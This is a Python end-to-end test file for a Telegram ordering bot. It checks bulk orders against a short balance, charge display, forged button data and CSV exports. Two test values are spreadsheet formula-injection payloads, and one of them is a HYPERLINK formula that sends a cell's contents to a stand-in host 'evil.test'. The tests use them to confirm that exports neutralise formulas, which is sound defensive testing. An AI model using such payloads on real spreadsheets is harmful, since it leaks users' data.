"""What was spent must be visible and only what the balance covers is sent (issues 10 and 11).

Issue 10 item 7: a bulk list against a short balance says how many of the first lines it covers
and lets the user place only those; identical panel errors are grouped in the result.
Issue 10 item 8: every line of a long preview is listed (check file with per-line cost), the
single order's result shows the charge and the balance after it, /export holds what /orders
shows. Issue 10 item 13: every CSV the bot sends guards formula cells. Issue 11 item 11: the
bulk result and its CSV list the lines that failed the check.
"""

from __future__ import annotations

import csv
import io
from decimal import Decimal
from pathlib import Path

from bot.callbacks.base import decode, encode
from bot.callbacks.bulk import ConfirmBulk, ConfirmBulkFirst
from bot.storage.models import SubmitState
from tests.e2e.steps import confirm, csv_rows, dialog, labels, open_bulk, preview_for, text_of
from tests.fakes.panel import Fault
from tests.fakes.panel_catalog import default_services
from tests.fakes.telegram import BotMessage, FakeUser
from tests.harness import Harness, running_bot

KEY = "pk_spend_5a4b3c2d1e0f9a8b7c6d5e4f"
UID = 7301
FORMULA = '=HYPERLINK("http://evil.test/?leak="&A1,"Instagram")'


def lines_of(n: int, *, service: int = 1, quantity: int = 100) -> list[str]:
    # Service 1 costs 12.50 per 1000: 100 each is 1.25 a line.
    return [f"{service} | https://instagram.com/u{i} | {quantity}" for i in range(n)]


async def preview_with_check(u: FakeUser, lines: list[str]) -> tuple[BotMessage, BotMessage]:
    """Paste `lines` (more than 10 valid): the preview and its check file."""
    await u.send("\n".join(lines))
    preview = await u.reply()
    check = await u.reply()
    assert check.document is not None, (text_of(preview), check.describe())
    return preview, check


async def result_and_file(u: FakeUser) -> tuple[BotMessage, BotMessage]:
    result = await u.reply()
    assert "Bulk order result" in text_of(result), text_of(result)
    document = await u.reply()
    assert document.document is not None and document.document.file_name == "bulk-result.csv"
    return result, document


# --- issue 10 item 7: bulk against a short balance ---------------------------------------------


async def test_short_balance_offers_the_first_n_and_places_exactly_those(bot: Harness) -> None:
    u = await open_bulk(bot, balance="5.00", uid=UID, key=KEY)
    preview, check = await preview_with_check(u, lines_of(150))
    text = text_of(preview)
    assert "150 valid orders of 150 lines" in text
    assert "short by $182.50" in text
    assert "It covers only the first 4 orders (up to line 4): $5.00, balance after: $0.00" in text
    assert labels(preview) == ["✅ Confirm the first 4 orders", "✖️ Cancel"]
    rows = csv_rows(check)
    assert [r["within balance"] for r in rows] == ["yes"] * 4 + ["no"] * 146
    assert bot.panel.bulk_calls() == 0
    first_data = preview.buttons()[0][1]
    batch = decode(first_data)
    assert batch is not None and batch.action is ConfirmBulkFirst.action
    assert batch.num(1) == 4

    await u.press("Confirm the first 4", message=preview)
    result, document = await result_and_file(u)
    body = text_of(result)
    # Exactly the first four went to the panel, in one request, and were charged.
    assert bot.panel.bulk_calls() == 1 and bot.panel.count("add") == 0
    placed = sorted(bot.panel.orders.values(), key=lambda o: o.id)
    assert [o.link for o in placed] == [f"https://instagram.com/u{i}" for i in range(4)]
    assert bot.panel.balance_of(KEY) == Decimal("0")
    assert "4 placed" in body and "146 not sent" in body and "failed" not in body
    for line_no, order in enumerate(placed, start=1):
        assert f"line {line_no}: #<code>{order.id}</code>" in body
    assert "146 lines not sent (5–150): not covered by your balance" in body
    assert len(body) <= 4096
    result_rows = csv_rows(document)
    assert len(result_rows) == 150
    assert [r["status"] for r in result_rows] == ["placed"] * 4 + ["not sent"] * 146
    assert {r["error"] for r in result_rows[4:]} == {"not covered by your balance"}

    # The other 146 are recorded as never sent and can never be placed later.
    stored = await bot.deps.storage.orders.get_batch(batch.text(0))
    assert [o.submit_state for o in stored] == [SubmitState.PLACED] * 4 + [SubmitState.FAILED] * 146
    assert {o.error_text for o in stored[4:]} == {"not sent: not covered by the balance"}
    assert all(o.submitted_at is None for o in stored[4:])
    # A forged "confirm all" of the same preview, and a second tap, order nothing more.
    for data in (encode(ConfirmBulk.action, batch.text(0)), first_data):
        qid = await u.press_data(data, preview)
        assert "Already submitted" in str((await u.answer(qid)).params.get("text", ""))
        await u.reply()
    assert len(bot.panel.orders) == 4 and bot.panel.bulk_calls() == 1
    assert await bot.deps.storage.orders.count_for_user(UID) == 4


async def test_short_balance_covering_nothing_offers_only_cancel(bot: Harness) -> None:
    u = await open_bulk(bot, balance="1.00", uid=UID, key=KEY)
    await u.send("\n".join(lines_of(3)))
    preview = await u.reply()
    text = text_of(preview)
    assert "does not cover even the first order ($1.25)" in text
    assert labels(preview) == ["✖️ Cancel"]
    await u.press("Cancel", message=preview)
    assert "Nothing was sent" in text_of(await u.update())
    assert bot.panel.bulk_calls() == 0 and bot.panel.orders == {}


async def test_forged_first_n_counts(bot: Harness) -> None:
    u = await open_bulk(bot, balance="5.00", uid=UID, key=KEY)
    await u.send("\n".join(lines_of(5)))
    preview = await u.reply()
    data = preview.buttons()[0][1]
    assert data.endswith(":4")
    batch = data.split(":")[1]
    # Past 64 bits the callback codec refuses the number, like any forged button.
    for n in ("0", "-3", "9999999999999999999"):
        qid = await u.press_data(f"bf:{batch}:{n}", preview)
        assert "expired" in str((await u.answer(qid)).params.get("text", ""))
    stored = await bot.deps.storage.orders.get_batch(batch)
    assert [o.submit_state for o in stored] == [SubmitState.DRAFT] * 5
    # More than the preview offered (issue 19 item 3), even larger than the list: refused,
    # nothing sent, no line voided; the first 4 it did offer can still be confirmed.
    for n in ("5", "999999999"):
        qid = await u.press_data(f"bf:{batch}:{n}", preview)
        assert "expired" in str((await u.answer(qid)).params.get("text", ""))
    stored = await bot.deps.storage.orders.get_batch(batch)
    assert [o.submit_state for o in stored] == [SubmitState.DRAFT] * 5
    assert bot.panel.count("add_bulk") == 0 and bot.panel.orders == {}
    await u.press_data(f"bf:{batch}:4", preview)
    await u.update()
    result = await u.reply()
    assert "4 placed" in text_of(result) and "1 not sent" in text_of(result)


async def test_result_groups_identical_panel_errors(bot: Harness) -> None:
    u = await open_bulk(bot, balance="1000", uid=UID, key=KEY)
    preview, _ = await preview_with_check(u, lines_of(150))
    # The balance drops after the preview: the panel refuses the first chunk of 100 whole.
    bot.panel.set_balance(KEY, "5.00")
    await u.press("Confirm 150 valid orders", message=preview)
    result, document = await result_and_file(u)
    body = text_of(result)
    assert "0 placed" in body and "100 failed" in body and "50 not sent" in body
    refusal = "Insufficient balance. Required: 125.000000, Available: 5.000000"
    assert f"✖ 100 lines (1–100): Panel's answer: {refusal}" in body
    assert (
        "50 lines not sent (101–150): "
        f"an earlier part of the list was refused (Panel's answer: {refusal})"
    ) in body
    # Once for the refused lines, once inside the reason the later ones were not sent.
    assert body.count("Insufficient balance") == 2
    assert len(csv_rows(document)) == 150
    assert bot.panel.orders == {}


# --- issue 10 item 8: what was spent must be visible ----------------------------------------


async def test_preview_of_more_than_ten_lines_lists_every_line_with_its_cost(
    bot: Harness,
) -> None:
    u = await open_bulk(bot, balance="100", uid=UID, key=KEY)
    lines = [*lines_of(11), "6 | https://youtube.com/watch?v=x | 1000"]
    preview, check = await preview_with_check(u, lines)
    text = text_of(preview)
    assert "12 valid orders of 12 lines" in text
    for n in range(1, 11):
        assert f"line {n}: service 1 × 100 → https://instagram.com/u{n - 1} ($1.25)" in text
    assert "… and 2 more" in text and "attached file" in text
    rows = csv_rows(check)
    assert [r["line"] for r in rows] == [str(n) for n in range(1, 13)]
    assert [Decimal(r["cost"]) for r in rows] == [Decimal("1.25")] * 11 + [Decimal("2.75")]
    assert Decimal(rows[-1]["total so far"]) == Decimal("16.50")
    assert rows[-1]["link"] == "https://youtube.com/watch?v=x" and rows[-1]["service"] == "6"
    assert any("Confirm 12 valid orders" in label for label in labels(preview))


async def test_placed_message_shows_the_charge_and_the_balance_after(bot: Harness) -> None:
    u = await bot.member(UID, key=KEY, balance="100")
    preview = await preview_for(u, 1, "instagram.com/spend", "1000")
    result = await confirm(u, preview)
    text = text_of(result)
    assert "✅ Order placed: #" in text
    assert "Charge: $12.50" in text
    assert "Balance now: $87.50" in text
    assert bot.panel.balance_of(KEY) == Decimal("87.50")


async def test_placed_message_keeps_the_charge_when_the_balance_cannot_be_read(
    bot: Harness,
) -> None:
    u = await bot.member(UID, key=KEY, balance="100")
    preview = await preview_for(u, 6, "https://youtube.com/watch?v=spend", "1000")
    bot.panel.inject(Fault.http_500(), action="balance", times=None)
    result = await confirm(u, preview)
    bot.panel.clear_faults()
    text = text_of(result)
    assert "✅ Order placed: #" in text and "Charge: $2.75" in text
    assert "Balance now" not in text
    assert bot.panel.count("add") == 1 and len(bot.panel.orders) == 1


async def test_export_holds_what_orders_shows_with_human_states_and_no_formulas(
    bot: Harness,
) -> None:
    services = default_services()
    for s in services:
        if s["service"] == 1:
            s["name"] = FORMULA
    bot.panel.set_services(services)
    u = await bot.member(UID, key=KEY, balance="100")
    result = await confirm(u, await preview_for(u, 1, "instagram.com/one", "1000"))
    assert "Order placed" in text_of(result)

    # A bulk list the panel refuses whole: its lines are not orders.
    await u.send("/bulk")
    await u.reply()
    await u.send("\n".join(lines_of(3, service=6, quantity=1000)))
    preview = await u.reply()
    bot.panel.set_balance(KEY, "0")
    await u.press("Confirm", message=preview)
    assert "3 failed" in text_of(await u.reply())

    await u.send("/orders")
    assert "1 in total" in text_of(await u.reply())
    await u.send("/export")
    doc = await u.reply()
    assert "Your order history: 1 order." in text_of(doc)
    rows = csv_rows(doc)
    assert len(rows) == 1
    [row] = rows
    assert row["Service"] == "'" + FORMULA  # shown as text, never run as a formula
    assert row["Status"] == "Pending"
    # The panel's own charge, read right after placing (issue 19 item 2), exact as it sent it.
    assert row["Charge"] == "12.50000"


async def test_export_states_in_the_users_language(bot: Harness) -> None:
    u = await bot.member(UID, key=KEY, balance="100", language_code="tr")
    preview = await dialog(u, 1, "instagram.com/tr", "1000")
    await u.press_data(preview.buttons()[0][1], preview)
    await u.update()
    await u.update()
    await u.send("/export")
    document = await u.reply()
    assert document.document is not None
    text = document.document.content.decode("utf-8-sig")
    [row] = list(csv.DictReader(io.StringIO(text), delimiter=";"))  # Excel's Turkish separator
    assert row["Durum"] == "Beklemede", row  # the panel's "Pending", in Turkish
    # A decimal comma; the panel's exact charge, read right after placing (issue 19 item 2).
    assert row["Tutar"] == "12,50000", row


# --- issue 11 item 11: lines that fail the check stay visible ---------------------------------


BAD = {
    2: ("999 | https://instagram.com/x | 100", "Service 999 is not in the catalog."),
    5: ("1 | https://instagram.com/low | 5", "Quantity must be a whole number between 100"),
    # Its raw text goes into the CSV's input column: a formula there must stay text.
    33: ('=HYPERLINK("http://evil.test") | https://instagram.com/w | 100', "The service id"),
}


def mixed_list() -> list[str]:
    """35 lines: 32 valid, lines 2, 5 and 33 fail the check."""
    valid = iter(lines_of(32))
    return [BAD[n][0] if n in BAD else next(valid) for n in range(1, 36)]


async def check_result_lists_rejected_lines(
    bot: Harness, u: FakeUser, result: BotMessage, document: BotMessage
) -> None:
    body = text_of(result)
    assert "32 placed" in body and "3 not sent" in body
    assert "line 2: ⏸ not sent: Service 999 is not in the catalog." in body
    assert "line 5: ⏸ not sent: Quantity must be a whole number between 100" in body
    assert "line 33: ⏸ not sent: The service id must be a number, not “=HYPERLINK(" in body
    rows = csv_rows(document)
    assert [r["line"] for r in rows] == [str(n) for n in range(1, 36)]
    by_line = {int(r["line"]): r for r in rows}
    for n, (raw, reason) in BAD.items():
        assert by_line[n]["status"] == "not sent"
        assert by_line[n]["error"].startswith(reason)
        assert by_line[n]["input"] == ("'" + raw if raw.startswith("=") else raw)
        assert by_line[n]["order id"] == ""
    placed = [r for n, r in by_line.items() if n not in BAD]
    assert all(r["status"] == "placed" for r in placed)
    assert {int(r["order id"]) for r in placed} == set(bot.panel.orders)


async def test_result_and_csv_list_lines_that_failed_the_check(bot: Harness) -> None:
    u = await open_bulk(bot, balance="1000", uid=UID, key=KEY)
    preview, _ = await preview_with_check(u, mixed_list())
    assert "32 valid orders of 35 lines" in text_of(preview)
    await u.press("Confirm 32 valid orders", message=preview)
    result, document = await result_and_file(u)
    await check_result_lists_rejected_lines(bot, u, result, document)
    assert len(bot.panel.orders) == 32


async def test_rejected_lines_survive_a_restart_before_confirm(tmp_path: Path) -> None:
    async with running_bot(tmp_path) as bot:
        u = await open_bulk(bot, balance="1000", uid=UID, key=KEY)
        preview, _ = await preview_with_check(u, mixed_list())
        await bot.restart()
        await u.press("Confirm 32 valid orders", message=preview)
        result, document = await result_and_file(u)
        await check_result_lists_rejected_lines(bot, u, result, document)
